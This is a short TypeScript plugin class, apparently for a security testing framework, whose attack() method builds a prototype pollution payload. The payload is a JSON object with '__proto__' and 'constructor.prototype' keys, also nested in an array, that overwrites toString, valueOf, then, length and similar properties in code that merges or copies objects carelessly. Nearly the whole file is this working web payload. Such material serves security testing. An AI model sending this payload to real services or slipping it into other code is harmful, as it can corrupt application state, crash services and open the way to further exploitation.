/** Answers with keys that set prototypes where somebody merges or copies carelessly. */
import { PluginPort } from "k-bert/sdk";

export const meta = { class: "spoof", alone: true };

export class Main extends PluginPort {
  attack(): unknown {
    const text = `{"polluted":1,"toString":null,"valueOf":0,"then":"x","length":1e9,"$":"buffer","buffer":0}`;
    return JSON.parse(
      `{"__proto__":${text},"constructor":{"prototype":${text}},"list":[{"__proto__":${text}}],"then":1}`,
    ) as unknown;
  }
}
